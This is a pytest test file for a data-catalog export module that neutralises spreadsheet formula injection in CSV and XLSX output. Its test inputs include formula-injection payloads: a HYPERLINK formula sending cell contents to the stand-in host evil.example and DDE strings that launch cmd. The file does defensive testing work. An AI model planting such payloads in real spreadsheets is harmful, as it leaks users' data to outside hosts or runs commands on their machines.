"""Catalog export (DESIGN §6, "Catalog export"): CSV and XLSX with cells
that a spreadsheet could take for formulas neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest

from ckanext.laodata.catalog.export import neutralise, to_csv, to_xlsx
from ckanext.laodata.catalog.importer import COLUMNS, parse_catalog

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def read_xlsx(data: bytes) -> tuple[Any, list[list[Any]]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("value", DANGEROUS + ["=", "+", "-", "@"])
def test_neutralise_prefixes_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Population", "", "1+1", " =1", "'=1", "ທະບຽນ", "a=b", "<script>x</script>"]
)
def test_neutralise_leaves_other_text(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [None, -5, 2.5, True, dt.date(2025, 6, 30), ["=x"]])
def test_neutralise_leaves_other_types(value: Any) -> None:
    assert neutralise(value) is value


def test_csv_has_bom_header_and_rows() -> None:
    rows = [{"code": "A", "title": "Dữ liệu dân cư", "extra": "not exported"}, {"code": "B"}]
    data = to_csv(rows, ["code", "title"])
    assert data.startswith(b"\xef\xbb\xbfcode,title\r\n")
    assert read_csv(data) == [["code", "title"], ["A", "Dữ liệu dân cư"], ["B", ""]]


def test_csv_neutralises_formula_like_text() -> None:
    rows = [{"code": f"C{index}", "title": value} for index, value in enumerate(DANGEROUS)]
    table = read_csv(to_csv(rows, ["code", "title"]))
    assert [row[1] for row in table[1:]] == ["'" + value for value in DANGEROUS]


def test_csv_values() -> None:
    row = {
        "code": "A",
        "state_secret": True,
        "due_date": dt.date(2025, 6, 30),
        "required_fields": [{"name": "id", "type": "integer"}, {"name": "name", "type": "string"}],
        "count": -5,
        "share": 12.5,
        "status": None,
        "tags": ["a", "b"],
    }
    table = read_csv(to_csv([row], list(row)))
    assert table[1] == ["A", "true", "2025-06-30", "id:integer;name:string", "-5", "12.5", "", "a;b"]


def test_xlsx_header_rows_and_title() -> None:
    rows = [{"code": "A", "title": "ຂໍ້ມູນ", "security_level": 3}, {"code": "B"}]
    sheet, table = read_xlsx(to_xlsx(rows, ["code", "title", "security_level"], sheet_title="Danh mục"))
    assert sheet.title == "Danh mục"
    assert table == [["code", "title", "security_level"], ["A", "ຂໍ້ມູນ", 3], ["B", None, None]]
    assert sheet["A1"].font.b is True


def test_xlsx_neutralises_formula_like_text() -> None:
    rows = [{"code": f"C{index}", "title": value} for index, value in enumerate(DANGEROUS)]
    sheet, table = read_xlsx(to_xlsx(rows, ["code", "title"]))
    assert [row[1] for row in table[1:]] == ["'" + value for value in DANGEROUS]
    assert all(sheet.cell(row=number, column=2).data_type == "s" for number in range(2, len(DANGEROUS) + 2))


def test_xlsx_keeps_types() -> None:
    row = {
        "count": -5,
        "share": 12.5,
        "secret": False,
        "due": dt.date(2025, 6, 30),
        "updated": dt.datetime(2025, 6, 30, 8, 0, tzinfo=dt.timezone(dt.timedelta(hours=7))),
        "fields": [{"name": "id", "type": "integer"}],
        "text": "-5",
    }
    _sheet, table = read_xlsx(to_xlsx([row], list(row)))
    count, share, secret, due, updated, fields, text = table[1]
    assert (count, share, secret) == (-5, 12.5, False)
    assert due.date() == dt.date(2025, 6, 30)
    assert updated == dt.datetime(2025, 6, 30, 1, 0)
    assert fields == "id:integer"
    assert text == "'-5"


def test_xlsx_strips_control_characters_before_neutralising() -> None:
    _sheet, table = read_xlsx(to_xlsx([{"title": "\x01\x02=1+1", "notes": "a\x0bb"}], ["title", "notes"]))
    assert table[1] == ["'=1+1", "ab"]


def test_xlsx_long_text_is_cut_to_excels_limit() -> None:
    _sheet, table = read_xlsx(to_xlsx([{"notes": "n" * 40000}], ["notes"]))
    assert len(table[1][0]) == 32767


@pytest.mark.parametrize(("title", "expected"), [("a/b:c", "a b c"), ("", "Catalog"), ("x" * 40, "x" * 31)])
def test_xlsx_sheet_title_is_made_valid(title: str, expected: str) -> None:
    sheet, _table = read_xlsx(to_xlsx([], ["code"], sheet_title=title))
    assert sheet.title == expected


def _entries() -> list[dict[str, Any]]:
    csv_text = (
        ",".join(COLUMNS) + "\r\n"
        "POL-001,Population register,ທະບຽນ,Sổ hộ khẩu,Register,police,public_security,monthly,shared,3,"
        'important,basic,false,local,"id:integer;name:string",2025-06-30,Decree 47,\r\n'
        "POL-002,Secret list,,,,police,public_security,annual,private,5,core,none,true,"
        'Ministry system,,,,"two\nlines"\r\n'
    )
    parsed = parse_catalog(csv_text.encode("utf-8"), "catalog.csv")
    assert parsed.errors == []
    return parsed.entries


@pytest.mark.parametrize("writer", ["csv", "xlsx"])
def test_export_can_be_imported_again(writer: str) -> None:
    entries = _entries()
    data = to_csv(entries, list(COLUMNS)) if writer == "csv" else to_xlsx(entries, list(COLUMNS))
    again = parse_catalog(data, f"export.{writer}")
    assert again.errors == []
    assert again.entries == entries


@pytest.mark.parametrize("writer", ["csv", "xlsx"])
def test_imported_formula_like_title_comes_back_neutralised(writer: str) -> None:
    entries = _entries()
    entries[0]["title"] = '=HYPERLINK("http://evil.example","x")'
    data = to_csv(entries, list(COLUMNS)) if writer == "csv" else to_xlsx(entries, list(COLUMNS))
    again = parse_catalog(data, f"export.{writer}")
    assert again.errors == []
    assert again.entries[0]["title"] == '\'=HYPERLINK("http://evil.example","x")'
